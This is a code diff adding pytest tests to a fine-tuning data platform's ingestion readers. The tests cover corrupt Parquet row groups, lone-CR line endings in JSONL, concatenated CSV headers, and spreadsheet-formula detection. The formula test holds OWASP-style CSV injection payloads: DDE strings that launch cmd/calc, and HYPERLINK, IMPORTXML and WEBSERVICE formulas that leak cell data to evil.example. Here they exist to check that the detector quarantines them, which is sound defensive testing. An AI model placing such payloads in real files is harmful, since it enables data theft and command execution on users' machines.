@@ -270,6 +270,30 @@ def test_parquet_without_the_text_column_quarantines_every_row(tmp_path):
     assert result.reconciles()
 
 
+def test_a_damaged_parquet_row_group_costs_exactly_its_rows_and_reading_goes_on(tmp_path):
+    import io
+
+    buffer = io.BytesIO()
+    table = pa.table({"text": [f"row {i}" for i in range(1, 301)], "label": [str(i % 3) for i in range(300)]})
+    pq.write_table(table, buffer, row_group_size=100)
+    raw = bytearray(buffer.getvalue())
+    column = pq.ParquetFile(io.BytesIO(bytes(raw))).metadata.row_group(1).column(0)
+    start = column.dictionary_page_offset or column.data_page_offset
+    raw[start : start + 12] = b"\xff" * 12  # the second row group's first page header
+    _write(tmp_path / "a.parquet", bytes(raw))
+    result = ingest_source(SourceSettings(name="p", path="a.parquet", format="parquet", label_field="label"), tmp_path)
+    stats = result.stats["p"]
+    assert (stats.rows_read, stats.rows_kept, stats.rows_quarantined) == (300, 200, 100)  # the footer's 300 rows
+    assert result.records["source_row"].tolist() == [*range(1, 101), *range(201, 301)]  # row group 3 is read
+    assert result.records["text"].iloc[100] == "row 201"
+    assert result.quarantine["source_row"].tolist() == list(range(101, 201))
+    assert set(result.quarantine["reason_code"]) == {"unreadable_file"}
+    assert result.quarantine["reason"].iloc[0].startswith(
+        "a.parquet, row 101: row group 2 of 3 (rows 101-200) could not be decoded ("
+    )
+    assert result.quarantine["reason"].map(str.isprintable).all() and result.reconciles()
+
+
 def test_text_reader_one_record_per_file(tmp_path):
     _write(tmp_path / "kb" / "returns.md", "# Returns\n\n- within 30 days\n- free label\n")
     _write(tmp_path / "kb" / "sub" / "warranty.txt", "Two years on all devices.")
@@ -486,6 +510,42 @@ def test_csv_lone_carriage_returns_end_lines(tmp_path):
     assert kept == [[1, "foo", "a"], [2, "bar", "b"], [3, "multi\rline", "c"], [4, "last", "d"]] and quarantined == []
 
 
+def test_jsonl_lone_carriage_returns_end_lines_as_in_csv(tmp_path):
+    _write(tmp_path / "mac.jsonl", b'{"text": "first"}\r{"text": "second"}\r\r{"text": "third"}\n')
+    big = b'{"text": "' + b"x" * 3_000 + b'"}'
+    _write(tmp_path / "mixed.jsonl", b'{"text": "a"}\r\n' + big + b'\r{"text": "b"}\r{"text":\r"c"}\n{"text": "d"}')
+    kept, quarantined = _outcome(ingest_source(SourceSettings(name="m", path="mac.jsonl", format="jsonl"), tmp_path), "m")
+    assert kept == [[1, "first", ""], [2, "second", ""], [4, "third", ""]] and quarantined == []
+    source = SourceSettings(name="x", path="mixed.jsonl", format="jsonl", max_record_bytes=2_048)
+    result = ingest_source(source, tmp_path)
+    kept, quarantined = _outcome(result, "x")
+    assert kept == [[1, "a", ""], [3, "b", ""], [6, "d", ""]]  # the over-long line ends at its lone CR
+    assert quarantined == [[2, "oversized"], [4, "malformed_json"], [5, "malformed_json"]]
+    reasons = result.quarantine["reason"].tolist()
+    assert reasons[0] == "mixed.jsonl, row 2: line is 3,013 bytes, over max_record_bytes=2,048."
+    assert reasons[1].endswith(  # a CR between the tokens of one object: the line end is named
+        "(a truncated or hand-edited line?); the file ends lines with a lone CR (classic Mac), which is read as a "
+        "line end."
+    )
+
+
+@pytest.mark.parametrize("block", [1, 2, 3, 5, 64])
+def test_jsonl_lines_are_the_same_whatever_the_blocks_they_are_read_in(monkeypatch, block):
+    import io
+    import re
+
+    from finetune_platform.ingest import readers
+
+    data = b"ab\r\ncd\ref\n\r\r\ngh\rij\n\nklmnopqrstu\r\nvw"
+    monkeypatch.setattr(readers, "_LINE_BLOCK", block)
+    lines = list(readers._physical_lines(io.BytesIO(data), limit=1_024))
+    expected = [m.group() for m in re.finditer(rb"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+$", data)]
+    assert [line for line, _, _ in lines] == expected
+    assert [length for _, length, _ in lines] == [len(e) for e in expected]
+    long = list(readers._physical_lines(io.BytesIO(b"x" * 100 + b"\r\nyy"), limit=10))
+    assert long == [(b"x" * 12, 102, b"\r\n"), (b"yy", 2, b"")]  # held up to the limit and a line end
+
+
 def test_csv_repeated_header_names_only_matter_when_the_source_reads_them(tmp_path):
     _write(tmp_path / "notes.csv", "text,notes,notes,label\nq1,n,n,a\nq2,n,n,b\n")
     _write(tmp_path / "texts.csv", "text,text,label\nq1,z,a\nq2,z,b\n")
@@ -497,6 +557,20 @@ def test_csv_repeated_header_names_only_matter_when_the_source_reads_them(tmp_pa
     kept, quarantined = _outcome(result, "t")
     assert kept == [] and quarantined == [[1, "malformed_csv"], [2, "malformed_csv"]]  # every row counted
     assert "repeats the column(s) ['text']" in result.quarantine["reason"].iloc[0]
+
+
+def test_csv_files_concatenated_quarantine_the_repeated_header_row(tmp_path):
+    first = "text,category\nMy parcel never arrived,shipping\n"
+    second = "\ufefftext , category\r\nI was charged twice,billing\r\n"  # Excel's export: a BOM, CRLF
+    _write(tmp_path / "all.csv", first + second + "text,shipping\n")  # a row whose text is "text" stays a row
+    result = ingest_source(SourceSettings(name="c", path="all.csv", format="csv", label_field="category"), tmp_path)
+    kept, quarantined = _outcome(result, "c")
+    assert kept == [[1, "My parcel never arrived", "shipping"], [3, "I was charged twice", "billing"], [4, "text", "shipping"]]
+    assert quarantined == [[2, "malformed_csv"]]
+    assert result.quarantine["reason"].iloc[0] == (
+        "all.csv, row 2: line 3: repeated header row (the cells are the header's; two CSV files joined into one?)."
+    )
+    assert result.reconciles()
 
 
 def test_csv_rows_of_empty_cells_are_rows_not_blank_lines(tmp_path):
@@ -521,7 +595,7 @@ def test_whole_number_float_labels_are_labels_and_nan_is_no_label(tmp_path):
 
 
 def test_formula_detection_keeps_ordinary_text():
-    from finetune_platform.ingest.readers import _FORMULA
+    from finetune_platform.ingest.readers import is_spreadsheet_formula
 
     formulas = [
         "=1+1",
@@ -544,8 +618,51 @@ def test_formula_detection_keeps_ordinary_text():
         "- see (attached)",
         "+44 20 7946 0958",
     ]
-    assert [s for s in formulas if not _FORMULA.match(s)] == []
-    assert [s for s in ordinary if _FORMULA.match(s)] == []
+    assert [s for s in formulas if not is_spreadsheet_formula(s)] == []
+    assert [s for s in ordinary if is_spreadsheet_formula(s)] == []
+
+
+def test_formula_rule_catches_owasp_payloads_and_keeps_support_text_that_looks_alike(tmp_path):
+    from finetune_platform.ingest.readers import is_spreadsheet_formula
+
+    payloads = [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click here")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+        '=WEBSERVICE("http://evil.example/"&A1)',
+        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+        '\t=HYPERLINK("http://evil.example")',
+        '\r=IMPORTDATA("http://evil.example")',
+        '+HYPERLINK("http://evil.example/a)b","x")',  # a parenthesis inside a string
+        '@hyperlink("http://evil.example")',  # any case
+        '-2+3+HYPERLINK("http://evil.example")',
+        '--IMAGE("http://evil.example/?"&A1) & "x"',
+    ]
+    support_text = [
+        "- item(s) missing from my order #4411",
+        "-Refund(s) still pending after 2 weeks",
+        "@support(team) please look at my order",
+        "+info(at)example.com asked me to write here",  # INFO is a function, but text follows the call
+        "@Sarah|Billing can you look at this",
+        "@Sarah|Billing can you look at this?! thanks",
+        "- see the Sum(total) line on my invoice",
+        "-SUM(of my orders) is wrong",
+        "+1 (415) 555-0132 is my callback number",
+        "=) thanks for the quick help",
+        "Call =HYPERLINK later",  # not at the start
+    ]
+    assert [p for p in payloads if not is_spreadsheet_formula(p)] == []
+    assert [t for t in support_text if is_spreadsheet_formula(t)] == []
+
+    body = "text\n" + "".join('"' + t.replace('"', '""') + '"\n' for t in support_text + payloads[:3])
+    _write(tmp_path / "a.csv", body)
+    result = ingest_source(SourceSettings(name="f", path="a.csv", format="csv"), tmp_path)
+    assert result.records["text"].tolist() == support_text
+    assert result.quarantine["reason_code"].tolist() == ["formula_injection"] * 3
 
 
 def test_ingest_sources_rejects_duplicate_names_and_returns_typed_empty_frames(tmp_path):
